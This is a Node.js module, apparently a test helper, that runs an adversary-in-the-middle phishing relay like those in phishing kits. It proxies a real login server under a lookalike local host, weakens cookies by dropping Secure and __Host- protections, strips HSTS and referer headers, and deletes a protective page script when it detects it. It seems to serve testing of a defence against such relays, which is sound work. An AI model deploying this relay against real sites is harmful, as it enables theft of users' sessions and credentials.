// A relay as phishing kits have it: it shows the server's pages under a name of its own, writes its name for the server's
// wherever it finds it, and passes everything on in both directions.

import { once } from 'node:events'
import { createServer } from 'node:http'
import { request as requestOf } from 'node:https'
import { url } from './deployment.mjs'

/** Chromium finds it on this machine: see the arguments it is started with. */
export const RELAY_HOST = 'login.keepwatch.test'

const real = new URL(url)

/**
 * Starts a relay. `knows(html)`: whether it knows of the script on that page, and leaves it out. `headers` are sent with
 * every request.
 */
export async function relay({ knows, headers }) {
  const server = createServer((request, response) => pass(request, response, { knows, headers })).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const origin = `http://${RELAY_HOST}:${server.address().port}`
  /** Where the relay shows what the server has at an address. */
  const shown = (address) => address.replace(real.origin, origin)
  return { origin, shown, close: () => server.close() }
}

function pass(request, response, { knows, headers }) {
  const asked = {
    ...request.headers,
    ...headers,
    host: real.host,
    origin: request.headers.origin && real.origin,
    cookie: request.headers.cookie?.replaceAll('host-', '__Host-'),
    'accept-encoding': 'identity',
  }
  // It lures people by plain HTTP, for which browsers say nothing of where they come from.
  for (const name of ['referer', 'upgrade-insecure-requests']) delete asked[name]
  for (const name of Object.keys(asked)) if (asked[name] === undefined) delete asked[name]
  const options = { hostname: real.hostname, port: real.port, path: request.url, method: request.method, headers: asked }
  const onward = requestOf(options, async (answer) => {
    const chunks = []
    for await (const chunk of answer) chunks.push(chunk)
    response.writeHead(answer.statusCode, told(answer.headers, request.headers.host))
    response.end(changed(Buffer.concat(chunks), answer.headers, request, knows))
  })
  onward.on('error', (error) => response.writeHead(502).end(String(error)))
  request.pipe(onward)
}

/** The headers of an answer, so that a browser keeps the cookies for the relay and stays there. */
function told(headers, host) {
  const kept = { ...headers }
  for (const name of ['content-length', 'transfer-encoding', 'strict-transport-security']) delete kept[name]
  if (kept.location) kept.location = kept.location.replace(real.origin, `http://${host}`)
  kept['set-cookie'] = (kept['set-cookie'] ?? []).map((cookie) =>
    cookie.replace('__Host-', 'host-').replace('; Secure', ''),
  )
  return kept
}

function changed(body, headers, request, knows) {
  if (!String(headers['content-type']).startsWith('text/html')) return body
  const html = body.toString().replaceAll(real.origin, `http://${request.headers.host}`)
  return knows(html) ? html.replace(/<script[^>]*assets\/place[^>]*><\/script>/, '') : html
}
